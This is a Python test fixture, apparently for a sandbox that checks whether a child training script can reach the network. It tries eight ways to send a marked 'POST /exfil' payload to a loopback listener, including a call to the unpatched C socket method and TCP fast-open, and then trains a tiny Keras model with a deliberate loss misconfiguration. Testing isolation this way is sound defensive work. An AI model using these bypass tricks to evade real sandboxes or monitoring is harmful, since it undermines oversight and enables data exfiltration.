"""TCP to a loopback listener from the child's own Python: socket, the C-level `_socket` type,
http.client and urllib."""
import _socket
import http.client
import socket
import urllib.request

import numpy as np
import keras

MARKER = "@MARKER@"
PORT = int("@TCP_PORT@")
ADDRESS = ("127.0.0.1", PORT)
PAYLOAD = f"POST /exfil HTTP/1.0\r\nX-Tag: {MARKER}\r\n\r\n".encode()


def attempt(label, fn):
    try:
        result = fn()
        print(f"{label}: {result}")
    except Exception as exc:  # noqa: BLE001 - a hostile script goes on
        print(f"{label} failed: {type(exc).__name__}: {exc}")


def raw(sock):
    sock.settimeout(2)
    sock.connect(ADDRESS)
    sock.sendall(PAYLOAD)
    sock.close()


def base_type_connect():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(2)
    socket.socket.__mro__[1].connect(sock, ADDRESS)  # the C method under the patched one
    sock.sendall(PAYLOAD)
    sock.close()


def sendto_fast_open():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(2)
    sock.sendto(PAYLOAD, 0x20000000, ADDRESS)  # MSG_FASTOPEN: connect and send in one call
    sock.close()


attempt("create_connection", lambda: socket.create_connection(ADDRESS, timeout=2).sendall(PAYLOAD))
attempt("socket.connect", lambda: raw(socket.socket(socket.AF_INET, socket.SOCK_STREAM)))
attempt("connect_ex", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).connect_ex(ADDRESS))
attempt("_socket.socket", lambda: raw(_socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)))
attempt("base type connect", base_type_connect)
attempt("TCP fast open", sendto_fast_open)
attempt("http.client", lambda: http.client.HTTPConnection("127.0.0.1", PORT, timeout=2).request("GET", f"/{MARKER}"))
attempt("urllib", lambda: urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f"http://127.0.0.1:{PORT}/{MARKER}", timeout=2))

rng = np.random.default_rng(0)
x = rng.random((8, 8, 8, 1)).astype("float32")
y = np.arange(8) % 2
model = keras.Sequential([keras.Input((8, 8, 1)), keras.layers.Flatten(), keras.layers.Dense(2, activation="softmax")])
# TL301 on purpose (softmax output, from_logits=True): its `confirmed` verdict shows the step ran.
model.compile(optimizer="adam", loss=keras.losses.SparseCategoricalCrossentropy(from_logits=True))
model.fit(x, y, epochs=1, batch_size=4, verbose=0)
print("trained")
